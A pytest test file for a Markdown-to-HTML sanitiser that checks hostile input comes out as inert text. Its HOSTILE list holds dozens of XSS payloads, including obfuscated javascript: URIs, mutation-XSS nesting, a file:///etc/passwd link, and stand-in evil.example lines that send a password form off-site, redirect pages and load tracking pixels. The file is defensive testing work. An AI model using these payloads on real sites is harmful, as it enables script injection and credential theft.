"""Markdown to safe HTML: what is allowed is shown, what is not stands there as words, nothing of it runs."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest

from organizations.markup import MAX_LENGTH, render, text_of, to_html
from tests.support.bounded import bounded

BLOCKS = {"p", "br", "hr", "pre", "blockquote", "ul", "ol", "li", "h3", "h4", "h5", "h6"}
TABLES = {"table", "thead", "tbody", "tr", "th", "td"}
ALLOWED = BLOCKS | TABLES | {"em", "strong", "s", "code", "a", "img"}
ATTRIBUTES = {"href", "title", "src", "alt", "start", "rel"}


class Elements(HTMLParser):
    """The elements of some HTML as a browser reads them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: dict[str, list[str]] = {}
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.setdefault(name, []).append(value or "")


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">words</p>',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<style>body { display: none }</style>",
    '<p style="position: fixed">words</p>',
    '<a href="javascript:alert(1)">words</a>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[words](javascript:alert(1))",
    "[words](JaVaScRiPt:alert(1))",
    "[words](java\tscript:alert(1))",
    "[words](&#106;avascript:alert(1))",
    "[words](javascript&colon;alert(1))",
    "[words](\x01javascript:alert(1))",
    "[words](vbscript:msgbox(1))",
    "[words](data:text/html,<script>alert(1)</script>)",
    "[words](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[words](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[a]: javascript:alert(1)\n\n[a]",
    "![words](data:image/svg+xml;base64,PHN2Zy8+)",
    "![words](data:image/png;base64,iVBORw0KGgo=)",
    "![words](https://evil.example/pixel.png)",
    "![words](//evil.example/pixel.png)",
    "![words](/\\evil.example/pixel.png)",
    "![words](/\t/evil.example/pixel.png)",
    "![words](</\t/evil.example/pixel.png>)",
    "![words](javascript:alert(1))",
    '![" onerror="alert(1)](/media/x.png)',
    '[words](/x "a\\" onmouseover=\\"alert(1)")',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    '```" onclick="alert(1)\nwords\n```',
    "| <script>alert(1)</script> |\n| --- |\n| <b onclick=x> |",
    "# <script>alert(1)</script>",
    "\0<script\0>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_becomes_an_element_an_attribute_or_an_address(text):
    html = to_html(text)
    found = Elements(html)
    assert found.tags <= ALLOWED
    assert found.attributes.keys() <= ATTRIBUTES
    for href in found.attributes.get("href", []):
        assert not re.match(r"(?i)[\s\x00-\x1f]*(javascript|vbscript|data|file)\s*:", href)
    for src in found.attributes.get("src", []):
        assert re.match(r"/[^/\\\s]", src)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_cannot_be_shown_stands_there_as_words(text):
    html, words = render(text)
    shown = unescape(html)
    assert "words" not in text or ("words" in words and "words" in shown)
    assert "alert(1)" not in text or ("alert(1)" in words and "alert(1)" in shown)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (
            "One *two* **three** `four` ~~five~~",
            "<em>two</em> <strong>three</strong> <code>four</code> <s>five</s>",
        ),
        ("# One", "<h3>One</h3>"),
        ("#### One", "<h6>One</h6>"),
        ("###### One", "<h6>One</h6>"),
        ("- One\n- Two", "<li>One</li>\n<li>Two</li>"),
        ("  • One\n  • Two", "<li>One</li>\n<li>Two</li>"),
        ("3. One\n4. Two", '<ol start="3">'),
        ("> One", "<blockquote>\n<p>One</p>"),
        ("One\n\n---\n\nTwo", "<hr>"),
        ("| A | B |\n| - | - |\n| 1 | 2 |", "<td>1</td>"),
        ("[One](https://example.org/)", '<a href="https://example.org/" rel="noopener nofollow">One</a>'),
        ("[One](mailto:a@example.org)", 'href="mailto:a@example.org"'),
        ("[One](/people/)", 'href="/people/"'),
        ("[One](#event-x)", 'href="#event-x"'),
        ("![One](/media/pictures/a.png)", '<img src="/media/pictures/a.png" alt="One">'),
        ("one < two & three > two", "one &lt; two &amp; three &gt; two"),
        ("&copy; and &lt;b&gt;", "&amp;copy; and &amp;lt;b&amp;gt;"),
        ("<b>bold</b>", "&lt;b&gt;bold&lt;/b&gt;"),
        ("[one]: https://example.org/", "[one]: https://example.org/"),
        ("``` one two\nthree\n```", "<pre><code>one two\nthree\n</code></pre>"),
    ],
)
def test_what_is_allowed_is_shown(text, html):
    assert html in to_html(text)


def test_a_text_beyond_the_limit_is_shown_as_written():
    text = "<script>" + "*a* " * (MAX_LENGTH // 4)
    html = to_html(text)
    assert html.startswith("<p>&lt;script&gt;*a* *a*")
    assert Elements(html).tags == {"p"}


@pytest.mark.slow
@pytest.mark.parametrize(
    "text", ["[" * 50_000, "*a_" * 30_000, "> " * 40_000, "`" * 99_999, "|-" * 40_000, "- " * 40_000]
)
def test_a_text_made_to_be_slow_is_not(text):
    with bounded():
        assert to_html(text)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("One *two*\n\nthree", "One two three"),
        ("- One\n- Two", "One Two"),
        ("One  \ntwo", "One two"),
        ("# One\ntwo", "One two"),
        ("| A |\n| - |\n| B |", "A B"),
        ("A & B <b>", "A & B <b>"),
        ("One\n\ttwo ", "One two"),
        ("", ""),
    ],
)
def test_words_are_kept_apart(text, words):
    assert text_of(text) == words


def test_a_foreign_image_is_a_link_by_its_words_or_its_address():
    html = to_html("![a map](https://example.org/map.png) ![](https://example.org/bare.png)")
    assert "<img" not in html
    assert '<a href="https://example.org/map.png" rel="noopener nofollow">a map</a>' in html
    assert ">https://example.org/bare.png</a>" in html
